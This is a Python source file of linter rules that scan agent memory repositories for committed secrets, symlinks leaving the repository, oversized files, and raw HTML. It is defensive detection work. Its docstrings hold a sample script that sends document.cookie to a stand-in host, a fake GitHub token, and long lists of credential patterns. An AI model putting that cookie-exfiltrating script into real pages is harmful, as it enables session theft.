"""CT6xx: what must not be published — secrets, links out of the repository, huge files, raw HTML.

These rules look at every file the tree reads. A secret is located and named by its kind,
never echoed; a link leaving the repository is reported by its name and never read.
"""

from __future__ import annotations

import bisect
import re
from collections import Counter
from collections.abc import Callable, Iterator
from functools import lru_cache
from typing import TYPE_CHECKING

from continuity.formats.secrets import line_column, variable_default
from continuity.formats.seen import compiled_code, find_seen
from continuity.formats.test_fixtures import is_test_fixture
from continuity.formats.words import plural
from continuity.model.boundaries import refusal
from continuity.model.credential_files import of_examples
from continuity.model.safe_open import Beneath
from continuity.model.tree import Document, TreeFile, in_a_whole_memory
from continuity.validators.agent_state import agent_state_files
from continuity.validators.diagnostics import Violation, value_identity
from continuity.validators.placeholders import MAX_LISTED
from continuity.validators.registry import CheckContext, rule
from continuity.validators.repository import tracked

#: CommonMark with raw HTML enabled: html_block and html_inline tokens are what CT604 reports.
if TYPE_CHECKING:
    from markdown_it import MarkdownIt
    from markdown_it.token import Token


@lru_cache(maxsize=1)
def _markdown() -> MarkdownIt:
    """The parser, imported when first needed: a check of a few files starts faster."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark")


_TAG = re.compile(r"<\s*([!?/]?[A-Za-z][\w:-]*)")
_CLOSING = re.compile(r"</\s*([A-Za-z][\w:-]*)\s*>")
#: Elements written on purpose in Markdown (collapsibles, line breaks, layout, emphasis).
_MEANT_HTML = frozenset({
    "details", "summary", "div", "span", "br", "hr", "p", "img", "sup", "sub", "kbd", "b",
    "i", "em", "strong", "u", "code", "pre", "table", "thead", "tbody", "tr", "td", "th",
    "ul", "ol", "li", "picture", "source", "center", "small", "mark", "del", "ins"})
#: Every raw HTML token starts so; a file without one is not parsed at all (most are not).
_MAY_HOLD_HTML = re.compile(r"<[A-Za-z!?/]")


# --------------------------------------------------------------------------- CT601


@rule("CT601", "secret", "error")
def secret(ctx: CheckContext) -> Iterator[Violation]:
    """Credential-like text in a file of the memory root: published, or committed.

    Memory trees are pushed to git hosts and published as sites; a key in a state file, an
    entry, the cycle ledger or a note store is leaked the moment it is. Detected: cloud keys
    (AWS, Azure, Google, Alibaba, DigitalOcean, Vault `hvs.` and `s.`), provider tokens (GitHub,
    GitLab, npm, PyPI, Hugging Face, Slack, Discord bots, SendGrid, Stripe, Mapbox, OpenAI,
    Anthropic and the other families of gitleaks' default rules), webhook URLs, private key
    blocks (a header with a key after it; a header quoted alone is not one) and PuTTY keys,
    a wallet's recovery phrase (12 to 24 words under a name such as `MNEMONIC` or `seed phrase`),
    JSON Web Tokens, bearer and basic HTTP credentials, `curl -u`, a password piped to
    `sudo -S` or given to `openssl … -pass pass:`, passwords in URLs, in
    `.netrc` and `.pgpass`, secrets assigned to keys such as `password:`, `DB_PASSWORD=`,
    `PGPASSWORD=`, `dbPassword` or `"secret":` (a quoted value may hold spaces), a generated
    value under a name ending in key, token or secret (`RAILS_MASTER_KEY`, `APP_KEY=base64:…`,
    `GITHUB_TOKEN=<40 hex>`, OpenClaw's `"gateway": {"token": …}`), Docker `"auth"` and
    kubeconfig `client-key-data`, a generated value alone in a file named for a key
    (`zhipu_key.txt`), in text,
    in binary files (and UTF-16/UTF-32 text; compiled code, built from source where a
    credential is read, is not read, and a notice says how much), in file names and in a
    child root's folder. Text
    is scanned as written and as a reader sees it: `ghp\\_…`, `ghp&#95;…`, a token split by
    `**`, an empty `<span></span>`, `[](x)` or a link (`ghp_AbC[rest…]()`) is found too; a
    Markdown table's cell is read with the name of its column (`| Service | User | Password |`)
    or of its row (`| Gmail app password | … |`), except a password a person chose in a table
    of documented defaults (under `## Default credentials`) and a word beside a row saying
    what is done with one (`| Encrypt PDF with password | **ENCRYPT** |`). Not
    secrets: placeholders and examples (`sk_live_YOUR_KEY_HERE`, `<your-api-key>`, AWS's
    `…EXAMPLE` key), redaction markers (`__OPENCLAW_REDACTED__`, `[REDACTED]`, `********`), masked
    keys (`ghp_****`), paths to key files, references (`${X}`, `$(pass …)`, `op://…`) and code;
    values public by design (Supabase's `anon` key, a Firebase web config's Google key,
    PostHog's project key `phc_…`, an Ethereum address) and documented test keys (one character sixteen times in a row); and a
    JSON Web Token whose `exp` has passed, which grants nothing (so its verdict changes on
    that date: one with no `exp`, or a later one, is found).
    A file of examples (`.env.example`, `*.sample`) is read only for a value found in a real
    file beside it (a `docker-compose.yml`'s password copied into the `.env.example`, or the
    default it gives a variable, `${DB_PASSWORD:-…}`, copied bare).
    Every file git tracks in the memory is scanned, whatever its extension (but not installed or
    copied-in packages, their authors' published code: `node_modules/`, `vendor/`,
    `third_party/`, virtual environments; nor a Chromium profile's own settings,
    `Preferences`, `Secure Preferences`, `BrowsingTopicsState`, `shared_proto_db/`: the
    browser's keys for itself)
    (`openclaw.json.backup`), not only what the site publishes (within `max_file_size`; untracked files are not: the check of the commit that
    adds one sees it); in a root of no known convention, its living files are the memory, but
    for one inside a workspace's folder (an OpenClaw workspace leaves a child root's folder to
    the child's check), whose every tracked file is read, as the workspace reads its own.
    Agent *state* files that hold credentials by design are scanned too wherever git tracks
    them from the repository's top (an OpenClaw state directory: `openclaw.json`,
    `identity/`, `devices/`, `agents/*/agent/`, `credentials/`; `.claude/settings*.json`,
    `.mcp.json`, every agent's MCP and settings files (`.cursor/mcp.json`, `.vscode/mcp.json`,
    `.gemini/settings.json`, `.codex/config.toml`, …) and login files
    (`.claude/.credentials.json`, `.codex/auth.json`), `.env*`, Replit's `.replit`, OpenClaw's `agents/*/agent/models.json` and `identity/device.json`
    by their own paths, the credential files of the tools an agent drives (`.netrc`,
    `.pgpass`, `.npmrc`, `.pypirc`, `.git-credentials`, `.aws/credentials`,
    `.docker/config.json`, `.ssh/id_*`), and `*.bak`/`*.backup` copies beside them), anywhere
    in the repository; a notice names the files scanned. The report names the
    kind, never the secret (no output ever prints it). A credential inside a note's fact is CT503's finding, not this rule's.

    **Example**

        **Deploy token:** ghp_0123456789abcdefghijklmnopqrstuvwxyz

    **Fix**

    Remove the secret and rotate it: it is in the git history already. Refer to secrets by
    name (`the DEPLOY_TOKEN secret`) and keep them in a secret store.
    """
    note_facts = {store.path: {note.line: note.fact for note in store.notes if note.fact}
                  for store in ctx.tree.records.note_stores}
    append_only = set(note_facts) | ({ctx.tree.ledger.path} if ctx.tree.ledger else set())
    for child in ctx.tree.children:
        if find_seen(child):  # its pages sit in a folder of this name (URLs, search, links)
            yield Violation(
                child + "/", "the name of this child root's folder holds a credential; "
                "folder names are published in URLs and links",
                "rename the folder (and rotate the credential: it is in the git history)",
                identity=value_identity(child))
    published = list(_published_files(ctx))
    shown = {id(tree_file) for tree_file in published}
    committed = list(_committed_files(ctx))
    # Agent state files (.env, openclaw.json, .claude/settings.json, …) from the top too.
    beyond = agent_state_files(ctx, frozenset(f.path for f in (*published, *committed)))
    leaked: dict[str, set[str]] = {}  # a value reported: the folders of its files
    files = (*published, *committed, *beyond)
    _say_compiled_code_unread(ctx, files)
    for tree_file in files:
        where = "would be published" if id(tree_file) in shown else \
            "is committed (the site does not publish this file, the repository does)"
        for finding in tree_file.name_credentials:
            # A name is published as it is (a URL, a title, a link): reported once, at 1:1.
            yield Violation(
                tree_file.path,
                f"the file's name holds {finding.description} ({finding.kind}); names are "
                "published in URLs and links, so the file is withheld",
                "rename the file (and rotate the credential: it is in the git history)",
                identity=value_identity(tree_file.path))
            break
        text = tree_file.scanned_text
        findings = tree_file.credentials
        if text is None or not findings:
            continue
        in_facts = note_facts.get(tree_file.path, {})
        convention = ctx.tree.convention
        examples = convention.example_lines(tree_file.path, text) if convention else frozenset()
        reported = []
        for finding in findings:
            line, column = line_column(text, finding.start)
            if text[finding.start:finding.end] in in_facts.get(line, ""):
                continue  # CT503 (note-unredacted) reports credentials in a fact
            if line in examples:
                continue  # a rule file's code example (Convention.code_is_example)
            if is_test_fixture(tree_file.path, finding.kind, text, line):
                continue  # a test run's fixture (Laravel's committed .env.testing APP_KEY)
            reported.append((finding, line, column))
            value = text[finding.start:finding.end]
            # A variable's default (``${DB_PASSWORD:-…}``) is what an example copies bare.
            for leaked_value in filter(None, (value, variable_default(value))):
                leaked.setdefault(leaked_value, set()).add(_folder(tree_file.path))
        of_kind = Counter(finding.kind for finding, _, _ in reported)
        listed: Counter[str] = Counter()
        for finding, line, column in reported:
            # A file of hundreds of one kind (a scraped feed, a dump) says so once: the
            # first few are listed, the last of them counts the rest.
            listed[finding.kind] += 1
            if listed[finding.kind] > _LISTED_PER_KIND:
                continue
            rest = of_kind[finding.kind] - _LISTED_PER_KIND
            more = f" ({rest} more of this kind in this file are not listed)" \
                if rest > 0 and listed[finding.kind] == _LISTED_PER_KIND else ""
            yield Violation(
                tree_file.path,
                f"{finding.description} ({finding.kind}) {where}{more}; secrets must not be "
                "kept in the memory tree",
                _APPEND_ONLY_HINT if tree_file.path in append_only or
                tree_file.path.endswith(".jsonl") else
                "remove it and rotate the credential (it stays in the git history); refer to "
                "it by the name of the secret store entry instead",
                line, column, identity=value_identity(text[finding.start:finding.end]))
    yield from _examples_holding(ctx, leaked)


def _say_compiled_code_unread(ctx: CheckContext, files: tuple[TreeFile, ...]) -> None:
    """Say how much compiled code (object files, libraries, executables) was not read for
    credentials: what the check did not judge is said, never passed over in silence."""
    compiled = [len(f.read.raw) for f in files if f.read is not None and f.read.text is None
                and f.read.raw is not None and compiled_code(f.read.raw)]
    if compiled:
        ctx.notices.append(f"{plural(len(compiled), 'compiled file')} (object code, libraries, "
                           f"executables; {sum(compiled) / 1e6:.1f} MB) not read for "
                           "credentials (CT601): each is built from source, where one is read")


def _folder(path: str) -> str:
    return path.rpartition("/")[0]


def _examples_holding(ctx: CheckContext, leaked: dict[str, set[str]]) -> Iterator[Violation]:
    """A file of examples (``.env.example``) is passed over: its values are what to fill in.
    One that holds a value reported in a real file (the database password of the
    ``docker-compose.yml``, copied into the ``.env.example`` beside it) gives that secret away
    too: found in the memory, or in the folder of a file the value was reported in."""
    if not leaked:
        return
    committed = tracked(ctx)
    inside = _scanned(ctx)
    children = tuple(child + "/" for child in ctx.tree.children)
    beneath = Beneath(ctx.tree.boundary)
    try:
        for path in sorted(committed or ()):
            if not of_examples(path, _EXAMPLE_SUFFIXES) or path.startswith(children) or \
                    _VENDORED.search(path):
                continue
            try:
                read = beneath.read_text(ctx.tree.root / path, ctx.config.max_file_size)
            except OSError:
                continue
            tree_file = TreeFile(path, ctx.tree.root / path, read)
            text = tree_file.scanned_text
            if text is None:
                continue
            for finding in tree_file.credentials:
                value = text[finding.start:finding.end]
                if value not in leaked or not (inside(path) or _folder(path) in leaked[value]):
                    continue
                line, column = line_column(text, finding.start)
                yield Violation(
                    path, f"{finding.description} ({finding.kind}) is committed in a file of "
                    "examples, the same value as a file beside it holds; secrets must not be "
                    "kept in the memory tree",
                    "put a placeholder in the example (`<database password>`) and rotate the "
                    "credential (it stays in the git history)",
                    line, column, identity=value_identity(value))
    finally:
        beneath.close()


#: Findings of one kind listed per file; the rest are counted (issue 29: 528 in one file).
_LISTED_PER_KIND = 5


#: A log is never edited (CT304), so the hint for a credential in one says what helps.
_APPEND_ONLY_HINT = (
    "rotate the credential: git keeps the committed line whatever the file says now; the log "
    "is append-only, so purging the line is a deliberate history rewrite, never an edit; "
    "refer to secrets by the name of their secret store entry in the lines you append")


#: Folders of installed packages: third-party code as its registry publishes it, no memory
#: (``vendor/``: Go's, Composer's, Bundler's, or a skill's copy of a library; ``third_party/``:
#: other projects copied in whole, as Chromium and Go projects name it; the twenty-third
#: survey's workspace holds six, gitleaks' README examples and its table of public keys among
#: them: their authors' published files, not this memory).
_VENDORED = re.compile(r"(?:^|/)(?:node_modules|bower_components|site-packages|\.venv|venv"
                       r"|vendor|third_party|third-party)/")

#: What Obsidian installs into a vault for a community plugin or theme: the release's files
#: as its author published them (``main.js``, ``manifest.json``, ``styles.css``; a theme's
#: ``theme.css``), bundled code that writes key formats and assigns tokens from calls (set 43:
#: a vault's REST API plugin bundles node-forge, which builds a PuTTY key file's header from
#: a variable). The plugin's saved settings beside them, ``data.json``, are the user's (the
#: same vault's held its API key and TLS private key) and are read like every file.
_INSTALLED_BY_OBSIDIAN = re.compile(r"(?:^|/)\.obsidian/(?:plugins/[^/]+/(?:main\.js|manifest\.json"
                                    r"|styles\.css)|themes/[^/]+/(?:theme\.css|manifest\.json))$")


#: A Chromium profile's own settings and caches (a browser an agent drives, its user-data
#: folder committed with the agent's state, survey 36): ``Preferences`` and ``Secure
#: Preferences`` hold the browser's keys for itself (the MACs that guard its settings, under
#: names such as ``policy_recovery_token``; the Touch ID metadata key), ``BrowsingTopicsState``
#: the Topics API's HMAC seed, and ``shared_proto_db/`` the requests of the browser's own
#: services with the Google API key built into every copy of Chrome: none signs anyone in.
#: The profile's site data (``Local Storage/``, ``Cookies``, ``Login Data``) is still read.
_BROWSER_OWN_STATE = re.compile(r"(?:^|/)(?:Default|Profile [0-9]{1,3}|Guest Profile)/"
                                r"(?:Preferences|Secure Preferences|BrowsingTopicsState"
                                r"|shared_proto_db/[^/]+)$")


#: Files of placeholders by name (``.env.example``, ``config.sample``): what to fill in, no leak.
_EXAMPLE_SUFFIXES = (".example", ".sample", ".template", ".dist")


def _scanned(ctx: CheckContext) -> Callable[[str], bool]:
    """Which of a root's files CT601 reads: those of its memory; and every file of a root of
    no known convention inside a workspace's folder (:func:`in_a_whole_memory`), which the
    workspace leaves to the child's check and the child's memory leaves out (set 43: a key in
    the deployment notes beside ``_ai/MEMORY.md``). Read for credentials only, here: neither
    published nor judged by any other rule, and by this one check alone (the workspace does
    not read a child's folder)."""
    tree = ctx.tree
    if tree.convention is None and in_a_whole_memory(tree.root, ctx.config, tree.repo_root):
        return lambda path: True
    return tree.in_memory


def _committed_files(ctx: CheckContext) -> Iterator[TreeFile]:
    """Every file git tracks below the root that the tree did not read (another extension,
    a backup, a dot file), read here beneath the repository's top within max_file_size; a
    child root's files are its own check's. Nothing without git."""
    committed = tracked(ctx)
    if not committed:
        return
    inside = _scanned(ctx)
    read = {tree_file.path for tree_file in ctx.tree.all_files()}
    read |= {d.template_file.path for d in ctx.tree.directories.values() if d.template_file}
    read |= {tree_file.path for tree_file in ctx.tree.skipped}
    children = tuple(child + "/" for child in ctx.tree.children)
    beneath = Beneath(ctx.tree.boundary)
    try:
        for path in sorted(committed - read):
            if path.startswith(children) or not path or not inside(path) or \
                    of_examples(path, _EXAMPLE_SUFFIXES) or _VENDORED.search(path) or \
                    _INSTALLED_BY_OBSIDIAN.search(path) or _BROWSER_OWN_STATE.search(path):
                continue  # another root's, the code beside the memory, a file of examples,
                # a package installed into it (node_modules/, an Obsidian plugin's
                # main.js: its authors' published code), or a browser's own settings
            try:
                text = beneath.read_text(ctx.tree.root / path, ctx.config.max_file_size)
            except OSError:  # a link out (CT602's business when the tree reads it), gone
                continue
            if text.text is not None or text.raw is not None:
                yield TreeFile(path, ctx.tree.root / path, text)
    finally:
        beneath.close()


def _published_files(ctx: CheckContext) -> Iterator[TreeFile]:
    seen = set()
    files = list(ctx.tree.all_files())
    files += [d.template_file for d in ctx.tree.directories.values() if d.template_file]
    for tree_file in files:
        if tree_file.path not in seen:
            seen.add(tree_file.path)
            yield tree_file


# --------------------------------------------------------------------------- CT602


@rule("CT602", "path-escape", "error")
def path_escape(ctx: CheckContext) -> Iterator[Violation]:
    """A symlink (or a configured path) leads outside the repository.

    A link in the memory tree could publish any file the machine can read (`~/.ssh/id_rsa`,
    or `.git/config`, which holds the job's token in CI) or make the check depend on files
    nobody reviews. A path is refused when, with its links resolved, it leaves the repository
    or lands inside `.git`; a linked directory that leaves (`notes -> /elsewhere`) refuses
    every file below it. Such a path is never read, published or written; it is reported
    here so that it is removed. Links that stay inside the repository are followed as usual.

    **Example**

        journal/2026-06-27-turn-3.md -> /home/wren/private/notes.md

    **Fix**

    Replace the link with the file's content (if it belongs in the memory), or delete it;
    point a configured `ledger` or `notes` path inside the repository.
    """
    for tree_file in ctx.tree.skipped:
        if not tree_file.escapes:
            continue
        reason = refusal(tree_file.abspath, ctx.tree.boundary) or "outside the repository"
        if "loops" in reason:
            what = "a link that cannot be resolved (it loops)"
        elif tree_file.abspath.is_symlink():
            where = ("inside the repository's .git directory" if ".git" in reason
                     else "outside the repository")
            what = f"a link to '{tree_file.symlink_target}', {where}"
        elif reason == "a link leaving the repository":
            what = "reached through a linked directory that leaves the repository"
        elif ".git" in reason:
            what = "inside the repository's .git directory"
        else:
            what = "a configured path outside the repository"
        yield Violation(
            tree_file.path, f"this file is {what}; it is not read or published",
            "replace the link with the file itself, or remove it; keep every file of the "
            "memory tree inside the repository")


# --------------------------------------------------------------------------- CT603


@rule("CT603", "file-too-large", "warning")
def file_too_large(ctx: CheckContext) -> Iterator[Violation]:
    """A file is larger than `max_file_size` (default 10 MB); it is skipped.

    Memory is meant to be read by agents and people; a huge file is usually a dump that does
    not belong in it, and reading it would slow every check and build. The file is not read,
    checked or published.

    **Example**

        artifacts/2026-06-27-full-crawl.json     # 480 MB

    **Fix**

    Keep large data outside the memory tree (link to it from an entry), exclude it with the
    `exclude` option, or raise `max_file_size` if such files are expected.
    """
    limit = ctx.config.max_file_size
    for tree_file in ctx.tree.skipped:
        if tree_file.read is None or not tree_file.read.too_large:
            continue
        yield Violation(
            tree_file.path,
            f"the file is {_size(tree_file.read.size)}, over max_file_size {_size(limit)}; it "
            "is not read, checked or published",
            "keep large data outside the memory tree, exclude it (`exclude`), or raise "
            "max_file_size")


def _size(count: int) -> str:
    for unit, factor in (("GB", 10**9), ("MB", 10**6), ("kB", 10**3)):
        if count >= factor:
            return f"{count / factor:.1f} {unit}"
    return f"{count} bytes"


# --------------------------------------------------------------------------- CT604


@rule("CT604", "raw-html", "warning")
def raw_html(ctx: CheckContext) -> Iterator[Violation]:
    """Raw HTML or a script in a Markdown entry or state file.

    The site sanitises raw HTML (scripts, event handlers and styles are removed), so the page
    will not show what the file says; and a `<script>` in agent memory is worth a look. HTML
    comments, code spans and code blocks are not raw HTML. One finding per file, at its first
    script or else its first tag, naming the tags; the JSON output lists every place.

    **Example**

        <div style="color:red">Deploy blocked</div>
        <script>fetch("https://example.invalid/" + document.cookie)</script>

    **Fix**

    Write it in Markdown (`**Deploy blocked**`); if the HTML is an example, put it in a code
    span or a fenced code block.
    """
    documents: list[tuple[str, Document]] = [
        (s.path, s.document) for s in ctx.tree.state_files if s.document is not None]
    documents += [(e.path, e.document) for e in ctx.tree.entries if e.document is not None]
    # Outside the protocol, HTML its writers mean (GSD's <details> collapsibles, prompt tags
    # such as <context>…</context>) is structure; what is reported there is a script, or a
    # tag that eats a placeholder (`<name>`, `<svc>`: no closing tag, not an HTML element).
    lenient = not ctx.tree.recognition.is_protocol
    for path, document in documents:
        found = []
        closed = set(_CLOSING.findall(document.text)) if lenient else set()
        for line, column, html in _raw_html(document):
            tag = _TAG.search(_after_comments(html))
            name = tag.group(1) if tag else ""
            script = bool(_SCRIPT.search(html))
            if lenient and not script and name and (name.lstrip("/").lower() in _MEANT_HTML or
                                                    name.lstrip("/") in closed):
                continue
            found.append((line, column, f"<{name}>" if name else _untagged(html), script))
        if found:
            yield _raw_html_found(path, found)


_SCRIPT = re.compile(r"<\s*script\b", re.I)
_RAW_HTML_HINT = ("write it in Markdown, or put it in a code span or fenced code block if it is "
                  "an example")


def _raw_html_found(path: str, found: list[tuple[int, int, str, bool]]) -> Violation:
    """One finding per file (one cause: the file holds raw HTML), at its first script or else
    its first tag; every place is in ``occurrences`` (the JSON output lists them)."""
    scripts = [item for item in found if item[3]]
    line, column, name, _ = scripts[0] if scripts else found[0]
    if len(found) == 1:
        message = ("a <script> element in the Markdown; the site removes scripts when it "
                   "sanitises raw HTML" if scripts else
                   f"raw HTML {name} in the Markdown; the site sanitises it, so it may not "
                   "render as written")
    else:
        names = list(dict.fromkeys(item[2] for item in found))
        shown = ", ".join(names[:MAX_LISTED]) + (", …" if len(names) > MAX_LISTED else "")
        lead = (f"{len(scripts)} <script> element{'s' if len(scripts) > 1 else ''} among "
                if scripts else "")
        message = (f"{lead}{len(found)} raw HTML tags in the Markdown ({shown}), the first at "
                   f"line {found[0][0]}; the site sanitises them"
                   + (" and removes scripts" if scripts else ", so they may not render as "
                      "written"))
    return Violation(path, message, _RAW_HTML_HINT, line, column,
                     occurrences=tuple((item[0], item[1], item[2]) for item in found))


def _only_comments(html: str) -> bool:
    """Whether ``html`` is nothing but HTML comments and white space: a scan from one ``-->``
    to the next (the pattern ``(?:<!--.*?-->\\s*)+$`` backtracked without end on forty
    ``<!---->`` and an ``x``)."""
    position, end = 0, len(html)
    found = False
    while True:
        while position < end and html[position].isspace():
            position += 1
        if position == end:
            return found
        if not html.startswith("<!--", position):
            return False
        close = html.find("-->", position + 4)
        if close < 0:
            return False
        position = close + 3
        found = True


def _untagged(html: str) -> str:
    """How a raw HTML block with no tag is named. A line opening with a comment is an HTML
    block to its end (CommonMark's second kind), so the Markdown after the comment on that line
    (a heading, a list) is shown raw: named so, not by the comment's first characters."""
    if html.lstrip().startswith("<!--"):
        return "Markdown after an HTML comment on its line"
    return f"<{html.strip()[:20]}>"


def _after_comments(html: str) -> str:
    """``html`` from its first character that is not in a leading comment: the tag a block
    opening with a comment is named by."""
    rest = html.lstrip()
    while rest.startswith("<!--"):
        close = rest.find("-->", 4)
        if close < 0:
            break
        rest = rest[close + 3:].lstrip()
    return rest


#: A ``<pre><code>`` block whose text is all escaped (``&lt;`` for ``<``): code shown as it
#: is, which renders as written under every engine (what ``continuity report`` writes).
_ESCAPED_CODE = re.compile(r"\s*<pre><code(?: class=\"language-[\w-]{1,40}\")?>[^<]*</code></pre>\s*")


def _escaped_code(html: str) -> bool:
    return _ESCAPED_CODE.fullmatch(html) is not None


def _raw_html(document: Document) -> Iterator[tuple[int, int, str]]:
    """(line, column, html) of each raw HTML block and opening inline tag, comments left out."""
    body = document.body
    lines = body.lines
    source = "\n".join(lines)
    if not _MAY_HOLD_HTML.search(source):
        return
    for token in _markdown().parse(source):
        if token.type == "html_block" and token.map:
            if _only_comments(token.content) or _escaped_code(token.content):
                continue
            index = token.map[0]
            column = len(lines[index]) - len(lines[index].lstrip()) + 1
            yield body.file_line(index), column, token.content
        elif token.type == "inline" and token.map and token.children:
            position = _source_positions(token, lines)
            for offset, html in _inline_html(token):
                if html.startswith("</") or _only_comments(html):
                    continue
                index, column = position(offset)
                yield body.file_line(index), column, html


def _inline_html(token: Token) -> Iterator[tuple[int, str]]:
    """Offsets in ``token.content`` of its html_inline children, stepping over code spans."""
    content = token.content
    cursor = 0
    for child in token.children or ():
        if child.type == "code_inline":
            start = content.find(child.markup, cursor)
            if start < 0:
                continue
            closing = re.compile(rf"(?<!`){re.escape(child.markup)}(?!`)")
            match = closing.search(content, start + len(child.markup))
            cursor = match.end() if match else start + len(child.markup)
        elif child.type in ("text", "html_inline"):
            found = content.find(child.content, cursor)
            if found < 0:
                continue
            cursor = found + len(child.content)
            if child.type == "html_inline":
                yield found, child.content


def _source_positions(token: Token, lines: list[str]) -> Callable[[int], tuple[int, int]]:
    """Map offsets in an inline token's content to (line index, 1-based column). The token's
    lines are split and located once: a paragraph of thousands of tags costs one pass, not one
    per tag."""
    content_lines = token.content.split("\n")
    starts = [0]
    for content_line in content_lines[:-1]:
        starts.append(starts[-1] + len(content_line) + 1)
    first = (token.map or [0])[0]
    bases: dict[int, int] = {}

    def position(offset: int) -> tuple[int, int]:
        line_in_content = bisect.bisect_right(starts, offset) - 1
        index = min(first + line_in_content, len(lines) - 1)
        if line_in_content not in bases:
            content_line = content_lines[line_in_content]
            bases[line_in_content] = max(lines[index].find(content_line), 0) \
                if content_line else 0
        return index, bases[line_in_content] + offset - starts[line_in_content] + 1

    return position
